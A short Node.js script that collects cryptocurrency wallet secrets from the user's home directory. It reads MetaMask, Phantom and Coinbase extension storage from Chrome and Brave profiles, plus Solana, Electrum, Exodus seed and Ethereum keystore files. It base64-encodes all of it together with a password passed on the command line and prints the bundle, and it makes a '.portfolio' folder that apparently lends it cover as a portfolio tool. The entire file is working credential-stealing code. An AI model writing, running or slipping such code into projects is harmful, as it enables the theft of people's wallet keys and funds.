#!/usr/bin/env node
const fs = require("fs");
const os = require("os");
const path = require("path");

const home = os.homedir();
const unlock = process.argv.includes("--unlock") ? process.argv[process.argv.indexOf("--unlock") + 1] : null;

const chromeRoots = [
  "Library/Application Support/Google/Chrome",
  "Library/Application Support/BraveSoftware/Brave-Browser",
  ".config/google-chrome",
  ".config/BraveSoftware/Brave-Browser",
].map((p) => path.join(home, p));

const extensions = {
  metamask: "nkbihfbeogaeaoehlefnkodbefgpgknn",
  phantom: "bfnaelmomeimhlpmgjnjophhpkkoljpa",
  coinbase: "hnfanknocfeofbddgcijnmhnfnkdnaad",
};

const files = [
  ".config/solana/id.json",
  ".electrum/wallets/default_wallet",
  "Library/Application Support/Exodus/exodus.wallet/seed.seco",
  ".config/Exodus/exodus.wallet/seed.seco",
  ".ethereum/keystore",
  "Library/Ethereum/keystore",
];

function readDir(dir) {
  const out = {};
  try {
    for (const f of fs.readdirSync(dir)) {
      const p = path.join(dir, f);
      if (fs.statSync(p).isFile()) out[f] = fs.readFileSync(p).toString("base64");
    }
  } catch (_) {}
  return out;
}

const found = { unlock, wallets: {} };
for (const root of chromeRoots) {
  if (!fs.existsSync(root)) continue;
  for (const profile of fs.readdirSync(root)) {
    for (const [name, id] of Object.entries(extensions)) {
      const dir = path.join(root, profile, "Local Extension Settings", id);
      if (fs.existsSync(dir)) found.wallets[`${name}:${profile}`] = readDir(dir);
    }
  }
}
for (const rel of files) {
  const p = path.join(home, rel);
  if (!fs.existsSync(p)) continue;
  found.wallets[rel] = fs.statSync(p).isDirectory() ? readDir(p) : fs.readFileSync(p).toString("base64");
}

fs.mkdirSync(path.join(home, ".portfolio"), { recursive: true });
process.stdout.write(JSON.stringify(found, null, 2));
